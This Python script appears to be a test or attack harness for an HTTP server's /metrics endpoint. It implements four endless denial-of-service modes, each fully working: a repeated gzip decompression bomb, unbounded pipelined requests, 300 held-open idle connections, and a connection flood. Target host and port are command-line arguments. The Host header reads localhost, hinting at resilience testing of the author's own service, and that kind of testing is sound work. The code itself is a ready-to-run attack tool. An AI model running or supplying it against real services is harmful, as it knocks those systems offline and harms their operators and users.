"""Attacks on an HTTP socket by somebody without rights: `python3 -c TEXT KIND HOST PORT`, with this file's text.

gzip        one client after the other sends a compressed body of 12 MB that stands for gigabytes
pipeline    one connection asks for /metrics without end, and reads what comes
idle        300 connections, taken again when they end, and nothing asked
connect     connections that ask for the status page and leave

It needs nothing but Python, so that any account can run it. It goes on until it is ended.
"""

from __future__ import annotations

import selectors
import socket
import sys
import time
import zlib

IDLE = 300
BODY = 12_000_000


def bomb() -> bytes:
    """Return a compressed body of 12 MB: one block that stands for 10 MB of zeros, again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b"\0" * 10_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * (BODY // len(block))


def send_bombs(host: str, port: int) -> None:
    """Send one bomb after the other."""
    body = bomb()
    head = b"POST /metrics HTTP/1.1\r\nHost: localhost\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
    while True:
        try:
            with socket.create_connection((host, port), timeout=10) as connection:
                connection.sendall(head % len(body) + body)
                connection.recv(1000)
        except OSError:
            time.sleep(0.001)


def pipeline(host: str, port: int) -> None:
    """Ask for metrics without end."""
    ask = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100
    while True:
        try:
            with (
                socket.create_connection((host, port)) as connection,
                selectors.DefaultSelector() as ready,
            ):
                connection.setblocking(False)
                ready.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
                ended = False
                while not ended:
                    for _, events in ready.select():
                        if events & selectors.EVENT_WRITE:
                            connection.send(ask)
                        if events & selectors.EVENT_READ:
                            ended = not connection.recv(1 << 20)
        except OSError:
            time.sleep(0.001)


def hold(host: str, port: int) -> None:
    """Hold connections open."""
    with selectors.DefaultSelector() as ended:
        while True:
            while len(ended.get_map()) < IDLE:
                try:
                    connection = socket.create_connection((host, port), timeout=10)
                except OSError:
                    break
                ended.register(connection, selectors.EVENT_READ)
            for key, _ in ended.select(0.05):
                ended.unregister(key.fileobj)
                key.fileobj.close()  # type: ignore[union-attr]


def connect(host: str, port: int) -> None:
    """Connect, ask, and leave."""
    while True:
        try:
            with socket.create_connection((host, port), timeout=10) as connection:
                connection.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
        except OSError:
            time.sleep(0.001)


if __name__ == "__main__":
    attack = {"gzip": send_bombs, "pipeline": pipeline, "idle": hold, "connect": connect}
    attack[sys.argv[1]](sys.argv[2], int(sys.argv[3]))
